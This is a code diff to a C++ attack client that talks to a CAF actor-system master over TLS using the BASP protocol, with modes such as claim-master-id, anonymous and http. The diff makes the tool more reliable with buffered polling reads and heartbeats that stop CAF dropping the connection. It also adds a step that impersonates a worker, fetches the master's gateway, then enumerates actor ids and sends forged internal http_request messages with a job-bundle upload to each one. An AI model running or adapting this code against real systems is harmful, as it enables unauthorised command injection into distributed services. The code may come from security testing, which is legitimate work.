@@ -11,6 +11,8 @@
 // stages, anonymous, down, claim-master-id, http (an http_request with
 // internal fields to every id). Each runs on a connection of its own.
 
+#include <chrono>
+#include <csignal>
 #include <cstdio>
 #include <cstring>
 #include <map>
@@ -20,7 +22,7 @@
 
 #include <netdb.h>
 #include <sys/socket.h>
-#include <sys/time.h>
+#include <poll.h>
 #include <unistd.h>
 
 #include <openssl/err.h>
@@ -31,6 +33,7 @@
 #include <caf/binary_deserializer.hpp>
 #include <caf/binary_serializer.hpp>
 #include <caf/event_based_actor.hpp>
+#include <caf/io/middleman.hpp>
 #include <caf/message.hpp>
 #include <caf/node_id.hpp>
 
@@ -86,6 +89,7 @@ struct link {
   SSL* ssl = nullptr;
   int fd = -1;
   bool closed = false;
+  std::string in; // received, not yet read
   caf::node_id master;
   uint64_t door = 0;
 
@@ -111,8 +115,6 @@ struct link {
       out("connect", std::strerror(errno));
       return false;
     }
-    timeval tv{2, 0};
-    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
     ctx = SSL_CTX_new(TLS_client_method());
     SSL_CTX_set_min_proto_version(ctx, TLS1_3_VERSION);
     SSL_CTX_load_verify_locations(ctx, arg("ca").c_str(), nullptr);
@@ -137,24 +139,28 @@ struct link {
       closed = true;
   }
 
-  /// The next whole BASP message (header, payload); false on close or timeout.
+  /// The next whole BASP message (header, payload); false when none came
+  /// within 250 ms, or the peer closed.
   bool read(std::string& header, std::string& payload) {
-    auto exact = [&](std::string& into, size_t n) {
-      into.clear();
-      while (into.size() < n) {
-        char buf[65536];
-        int got = SSL_read(ssl, buf, static_cast<int>(std::min(n - into.size(), sizeof buf)));
-        if (got <= 0) {
-          int e = SSL_get_error(ssl, got);
-          if (e != SSL_ERROR_WANT_READ && !(e == SSL_ERROR_SYSCALL && (errno == EAGAIN)))
-            closed = true;
-          return false;
-        }
-        into.append(buf, static_cast<size_t>(got));
+    for (;;) {
+      if (in.size() >= 32 && in.size() >= 32 + read_be(in, 4, 4)) {
+        auto len = read_be(in, 4, 4);
+        header = in.substr(0, 32);
+        payload = in.substr(32, len);
+        in.erase(0, 32 + len);
+        return true;
       }
-      return true;
-    };
-    return exact(header, 32) && exact(payload, read_be(header, 4, 4));
+      pollfd p{fd, POLLIN, 0};
+      if (SSL_pending(ssl) == 0 && ::poll(&p, 1, 250) != 1)
+        return false;
+      char buf[65536];
+      int got = SSL_read(ssl, buf, sizeof buf);
+      if (got <= 0) {
+        closed = true;
+        return false;
+      }
+      in.append(buf, static_cast<size_t>(got));
+    }
   }
 
   static std::string header(uint8_t op, size_t len, uint64_t data, uint64_t src, uint64_t dst,
@@ -189,12 +195,19 @@ struct link {
     write(header(2, payload.size(), request, src, dst) + payload);
   }
 
-  /// Every answer until the peer is quiet for the read timeout.
+  /// Every answer until none came for 2 s (heartbeats both ways meanwhile:
+  /// CAF takes a silent peer for dead).
   void collect() {
+    using clock = std::chrono::steady_clock;
+    auto last = clock::now();
     std::string h, p;
-    while (read(h, p)) {
+    while (!closed && clock::now() - last < std::chrono::seconds(2)) {
+      write(header(6, 0, 0, 0, 0));
+      if (!read(h, p))
+        continue;
       if (h[0] != 2 || (read_be(h, 8, 8) & 0x8000000000000000ull) == 0)
         continue; // heartbeats, CAF's own questions
+      last = clock::now();
       caf::binary_deserializer src{sys, p.data(), p.size()};
       std::vector<caf::strong_actor_ptr> stages;
       caf::message msg;
@@ -265,6 +278,11 @@ int run(caf::actor_system& sys) {
     req.upload_field = "job_bundle";
     req.upload_filename = job + ".tgz";
     req.listener = "";
+    // As a worker may: ask the master for its gateway (its handle then
+    // crossed the wire once and answers by id), then talk to every id.
+    for (uint64_t id = 1; id <= scan; ++id)
+      l.send(id, caf::make_message(get_atom::value, node_atom::value, std::string{}), mid++);
+    l.collect();
     for (uint64_t id = 1; id <= scan; ++id)
       l.send(id, caf::make_message(req), mid++);
   } else if (attack == "messages") {
@@ -320,10 +338,12 @@ int run(caf::actor_system& sys) {
 } // namespace
 
 int main(int argc, char** argv) {
+  std::signal(SIGPIPE, SIG_IGN); // the master closing on us is an answer, not a crash
   for (int i = 1; i + 1 < argc; i += 2)
     args[std::string(argv[i]).substr(2)] = argv[i + 1];
   caf::actor_system_config cfg;
   register_message_types(cfg);
+  cfg.load<caf::io::middleman>(); // which gives this process a node id
   cfg.set("logger.console", caf::atom("none"));
   caf::actor_system sys{cfg};
   int rc = run(sys);
